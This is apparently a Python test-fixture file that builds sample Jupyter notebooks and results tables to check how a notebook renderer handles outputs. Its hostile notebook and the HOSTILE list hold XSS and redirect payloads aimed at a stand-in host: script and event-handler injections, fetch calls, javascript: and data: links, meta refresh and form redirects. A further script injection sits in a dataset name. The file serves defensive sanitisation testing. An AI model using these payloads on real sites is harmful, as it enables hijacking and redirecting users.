"""Parts of a book: a notebook with every kind of output, one whose outputs are hostile, and runs with such names."""

import base64
import html
import io
import json

from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output
from pandas import DataFrame
from PIL import Image

import repro
from repro.notebook import shown as table

EVIL = "https://evil.example"
HOSTILE_FIGURE = json.dumps({
    "data": [{"y": [0], "mode": "text", "text": ["<img src=x onerror=document.title='evil'>"]}],
    "layout": {"title": {"text": f"<a href=\"javascript:location='{EVIL}'\">a</a><script>location='{EVIL}'</script>"}},
})
HOSTILE = (
    f'<meta http-equiv="refresh" content="0;url={EVIL}/">', f'<base href="{EVIL}/">',
    f'<form action="{EVIL}/"><button formaction="{EVIL}/">go</button></form>',
    f'<link rel="preconnect" href="{EVIL}">', f'<img src="{EVIL}/a.png">',
    f'<img src="//{EVIL[8:]}/b.png" srcset="{EVIL} 2x">',
    f"<img src=x onerror=\"location='{EVIL}'\">", f"<script>location='{EVIL}'</script>",
    f'<iframe src="{EVIL}"></iframe>',
    f"<svg onload=\"location='{EVIL}'\"><script>fetch('{EVIL}')</script></svg>", f'<object data="{EVIL}"></object>',
    f"<style>@import url({EVIL});</style>", f'<p style="background: url({EVIL})">styled</p>',
    f'<video poster="{EVIL}/c.png"><source src="{EVIL}/d.mp4"></video>',
    "<a href=\"javascript:alert('evil')\">link</a>",
    f"<div data-figure='{html.escape(HOSTILE_FIGURE)}'></div>",
    "<a href=\"data:text/html,<script>alert('evil')</script>\">link</a>",
)
PLAY = {"type": "buttons", "buttons": [{"label": "play", "method": "animate", "args": [None]}]}
FIGURE = json.dumps({"data": [{"y": [0]}], "layout": {"updatemenus": [PLAY]},
                     "frames": [{"data": [{"y": [n]}]} for n in (1, 2)]})
WIDGET = "application/vnd.jupyter.widget-view+json"
NAME = "<img src=x onerror=document.title='evil'></script><script>document.title='evil'</script>"


def picture(colour):
    """A small PNG as a notebook stores it."""
    buffer = io.BytesIO()
    Image.new("RGB", (40, 30), colour).save(buffer, "PNG")
    return base64.b64encode(buffer.getvalue()).decode()


def shown(**data):
    """An output; kinds have a double underscore for the slash."""
    return new_output("display_data", {kind.replace("__", "/"): value for kind, value in data.items()})


def executed(title, outputs):
    cells = [new_markdown_cell(f"# {title}"),
             new_code_cell("show(1 < 2)", outputs=outputs, execution_count=1)]
    return new_notebook(cells=cells)


def notebook():
    """An executed notebook whose outputs a reader should see, but for its bar of progress."""
    return executed("A made-up notebook", [
        new_output("stream", name="stdout", text="a machine\n"), new_output("stream", name="stderr", text="a bar\n"),
        new_output("display_data", {WIDGET: {"model_id": "box"}, "image/png": picture("teal"), "text/plain": "VBox()"}),
        shown(text__html="<table border='1'><tr><th>objective</th></tr><tr><td>CE</td></tr></table>"),
        shown(text__html=table(repro.results("taxonomy_ucla")).to_html()),
        shown(text__markdown="**Partly**: 1 of 2, see [the table](../index.md)."),
        shown(image__png=picture("navy"), text__plain="<Figure>"),
        shown(text__html=f'<div data-figure="{html.escape(FIGURE)}"></div>'),
    ])


def hostile():
    """An executed notebook whose outputs try to run, to load from elsewhere and to lead away."""
    svg = f"<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'><script>fetch('{EVIL}')</script></svg>"
    return executed("A hostile notebook", [
        *(shown(text__html=text) for text in HOSTILE), *(shown(text__markdown=text) for text in HOSTILE),
        shown(text__markdown=f"![a]({EVIL}/e.png) [b](javascript:alert('evil')) before {HOSTILE[0]} after"),
        new_output("display_data", {"image/svg+xml": svg}),
        new_output("display_data", {"application/javascript": f"location='{EVIL}'", "text/plain": "<Javascript>"}),
        new_output("display_data", {"text/latex": f"$\\href{{{EVIL}}}{{x}}$"}),
        shown(text__plain="<script>the last output</script>"),
    ])


def runs():
    """Of two studies: three runs, which differ in layers, not in units, one of them without a probe; and one run."""
    shared = {"study": "skeletons", "preset": "quick", "digest": "d", "version": 3, "changes": {}, "commit": "c",
              "cost": {"seconds": 5400.0}, "finished": "2026-11-21T08:00:00", "measure": "linear"}
    rows = [
        {"id": "k1", "dataset": "ucla", "seed": 0, "named": "CE", "linear": 80.25, "layers": 1.0},
        {"id": "k2", "dataset": "ucla", "seed": 1, "named": "AE", "linear": 9.5, "layers": 2.0},
        {"id": "k3", "dataset": "digits", "seed": 0, "named": "CE+AD", "linear": None, "layers": 3.0},
    ]
    three = DataFrame([shared | row for row in rows]).assign(units=128)
    three["finished"] = [f"2026-11-{day}T08:00:00" for day in (21, 23, 22)]
    three["changes"] = [{}, {"layers": 2}, {"layers": 3, "td_queue": "live"}]
    one = DataFrame([shared | {"id": "k4", "study": "images", "dataset": NAME, "seed": 0, "named": "jcl",
                               "measure": "cifar10", "cifar10": 50.0, NAME: 0.00012345}])
    return {"skeletons": three, "images": one, "clips": one[:0]}
